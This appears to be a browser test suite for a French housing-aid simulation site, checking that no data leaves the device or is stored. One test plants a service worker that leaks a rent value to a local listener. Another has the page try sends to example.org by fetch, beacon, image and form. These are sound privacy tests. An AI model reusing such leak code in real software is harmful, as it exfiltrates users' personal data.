// Nothing leaves the device and nothing stays on it: a whole simulation, with the worker that keeps
// files at work, watched from the browser's whole context. A worker that leaks shows that the watch
// sees what a page's own policy does not bind.

import assert from "node:assert/strict";
import { createServer } from "node:http";
import { readdir } from "node:fs/promises";
import { after, before, test } from "node:test";
import { FOYERS } from "./foyers.mjs";
import { DIST, kept, launch, serve, settled, visit } from "./site.mjs";

let browser;
before(async () => {
  browser = await launch();
});
after(() => browser?.close());

/** Everything that the browser asks for from here on, whoever in it asks. */
function watch(context) {
  const seen = [];
  context.on("request", (request) => seen.push(request));
  return seen;
}

/** What was asked for and should not have been. */
async function astray(requests, site) {
  const files = new Set((await readdir(DIST, { recursive: true })).map((file) => site + file));
  return requests
    .filter((request) => {
      const url = request.url();
      const own = url === site || files.has(url);
      return !own || request.method() !== "GET" || request.postData() !== null;
    })
    .map((request) => `${request.method()} ${request.url()}`);
}

test("une simulation entière : rien ne part, rien ne reste", async (test) => {
  const site = await serve();
  test.after(site.close);
  const context = await browser.newContext({ locale: "fr-FR" });
  const requests = watch(context);
  const page = await context.newPage();
  const addresses = new Set();
  page.on("framenavigated", (frame) => addresses.add(frame.url().split("#")[0]));
  await page.goto(site.url);
  await page.locator("#titre").waitFor();
  await settled(page);
  let loading;
  await FOYERS.lyon(page, async () => {
    // The sentences that explain results come with the first question; nothing after them.
    await page.waitForLoadState("networkidle");
    loading = requests.length;
  });
  await page.getByRole("link", { name: /Voir le calcul/ }).first().click();
  await page.getByRole("heading", { name: "La loi" }).waitFor();
  await page.goBack();
  assert.deepEqual(requests.slice(loading).map((request) => request.url()), [], "nothing once a household is begun");
  assert.deepEqual(await astray(requests, site.url), [], "nothing but the site's own files");
  assert.deepEqual([...addresses], [site.url], "no answer in the address");
  assert.ok(
    requests.some((request) => request.serviceWorker()),
    "the worker is watched too",
  );
  const { caches, ...others } = await kept(page);
  assert.deepEqual(others, { cookies: "", local: [], session: [], databases: [] });
  const files = (await readdir(DIST, { recursive: true })).map((file) => site.url + file);
  assert.ok(caches.length > 5 && caches.every((url) => files.includes(url)), caches.join(" "));
  await context.close();
});

test("témoin : un programme de fond qui fuit est vu", async (test) => {
  const heard = [];
  const elsewhere = createServer((request, response) => {
    heard.push(request.url);
    response.writeHead(204, { "access-control-allow-origin": "*" }).end();
  });
  await new Promise((resolve) => elsewhere.listen(0, "127.0.0.1", resolve));
  test.after(() => elsewhere.close());
  const address = `http://127.0.0.1:${elsewhere.address().port}/fuite?loyer=450`;
  const leak = `addEventListener("install", (event) => event.waitUntil(fetch("${address}")));`;
  const site = await serve((file) =>
    file === "worker.js" ? { status: 200, type: "text/javascript", body: leak } : null,
  );
  test.after(site.close);
  const context = await browser.newContext({ locale: "fr-FR" });
  const requests = watch(context);
  const page = await context.newPage();
  await page.goto(site.url);
  await page.locator("#titre").waitFor();
  await settled(page);
  assert.deepEqual(heard, ["/fuite?loyer=450"], "it did leak");
  assert.deepEqual(await astray(requests, site.url), [`GET ${address}`], "and the watch saw it");
  await context.close();
});

test("la page, elle, ne peut rien envoyer", async (test) => {
  const site = await serve();
  test.after(site.close);
  const { page, close } = await visit(browser, site.url);
  const refused = await page.evaluate(async () => {
    const told = [];
    document.addEventListener("securitypolicyviolation", (event) => told.push(event.effectiveDirective));
    await fetch("https://example.org/").catch(() => {});
    navigator.sendBeacon("https://example.org/", "x");
    const image = new Image();
    image.src = "https://example.org/x.png";
    const form = Object.assign(document.createElement("form"), { action: "https://example.org/", method: "post" });
    document.body.append(form);
    form.submit();
    const script = Object.assign(document.createElement("script"), { textContent: "window.ran = true" });
    document.body.append(script);
    await new Promise((resolve) => setTimeout(resolve, 300));
    return { told: [...new Set(told)].sort(), ran: window.ran ?? false };
  });
  assert.deepEqual(refused, { told: ["connect-src", "form-action", "img-src", "script-src-elem"], ran: false });
  await close();
});
